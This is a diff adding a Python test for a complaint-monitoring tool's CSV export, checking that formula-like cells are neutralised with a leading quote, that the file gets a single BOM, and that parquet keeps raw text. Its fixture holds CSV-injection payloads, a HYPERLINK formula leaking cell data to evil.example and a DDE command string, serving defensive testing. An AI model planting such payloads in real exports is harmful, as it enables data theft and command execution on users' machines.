@@ -234,3 +234,80 @@ def test_export_help_offers_no_sql(capsys):
     with pytest.raises(SystemExit):
         export_main(["--help"])
     assert "--where" not in capsys.readouterr().out
+
+
+FORMULAS = {  # post id: (author, text); every one a cell a spreadsheet would evaluate
+    "6": ("宝妈", '=HYPERLINK("http://evil.example/?leak="&A1,"沐沐奶粉官方退款通道")'),
+    "7": ("@SUM(1+1)*cmd|' /C calc'!A0", "沐沐奶粉有异物"),
+    "8": ("-2+3", "+86 138 0000 0000 沐沐奶粉客服不理人"),
+    "9": ("\t=1+1", "\r=1+1 沐沐奶粉"),
+}
+
+
+def _tracked_formula_posts(engine):
+    """Tracked complaints whose author names and texts start like formulas, one with a
+    negative sentiment number (a number, never a formula to neutralise)."""
+    from warehouse.schema import tracked_posts
+
+    with engine.begin() as conn:
+        for post_id, (author, body) in FORMULAS.items():
+            conn.execute(
+                mentions.insert().values(
+                    platform="weibo", post_id=post_id, brand="mumu", author_name=author,
+                    author_followers=10, author_verified=False, text=body, created_at=T0,
+                    url=f"https://weibo.com/1/{post_id}", raw="{}", ingested_at=T0,
+                    is_competitor=False,
+                )
+            )  # fmt: skip
+            conn.execute(
+                scores.insert().values(
+                    platform="weibo", post_id=post_id, model_version="m", sentiment=-0.25,
+                    negative=True, complaint=True, categories="[]", signals="[]", scored_at=T0,
+                )
+            )  # fmt: skip
+            conn.execute(
+                tracked_posts.insert().values(
+                    platform="weibo", post_id=post_id, brand="mumu", state="hot", created_at=T0,
+                    tracked_since=T0, next_check_at=T0,
+                )
+            )  # fmt: skip
+
+
+def test_csv_export_neutralises_formula_cells_once_with_a_bom(incident, tmp_path, monkeypatch):
+    """Text cells that start with = + - @ tab or CR get a leading ' (OWASP), numbers stay
+    numbers, and the file starts with one UTF-8 BOM however many chunks it streams in."""
+    import csv
+
+    import yujing.export
+
+    _tracked_formula_posts(incident)
+    monkeypatch.setattr(yujing.export, "CHUNK", 2)  # four rows: two chunks
+    out = tmp_path / "top.csv"
+    assert export_main(["v_top_complaints", "--out", str(out)], engine=incident) == 0
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        rows = {r["post_id"]: r for r in csv.DictReader(f)}
+    assert rows.keys() == FORMULAS.keys()
+    for post_id, (author, body) in FORMULAS.items():
+        safe = lambda s: "'" + s if s[0] in "=+-@\t\r" else s  # noqa: E731
+        assert (rows[post_id]["author_name"], rows[post_id]["excerpt"]) == (
+            safe(author),
+            safe(body),
+        )
+        assert float(rows[post_id]["sentiment"]) == -0.25  # a negative number is untouched
+    assert rows["7"]["excerpt"] == "沐沐奶粉有异物" and rows["6"]["author_name"] == "宝妈"
+    cells = [c for r in rows.values() for c in r.values()]
+    risky = [c for c in cells if c[:1] and c[0] in "=+-@\t\r" and c != "-0.25"]
+    assert not risky
+    # stdout (a pipe) gets the same cells, without the BOM
+    buffer = io.StringIO()
+    assert export_main(["v_top_complaints"], engine=incident, stdout=buffer) == 0
+    assert not buffer.getvalue().startswith("\ufeff")
+    assert "'=HYPERLINK(" in buffer.getvalue() and "'-2+3" in buffer.getvalue()
+    # parquet keeps the raw text
+    parquet = tmp_path / "top.parquet"
+    assert export_main(["v_top_complaints", "--format", "parquet", "--out", str(parquet)],
+                       engine=incident) == 0  # fmt: skip
+    frame = pd.read_parquet(parquet).set_index("post_id")
+    assert frame.loc["8", "author_name"] == "-2+3" and frame.loc["6", "excerpt"].startswith("=")
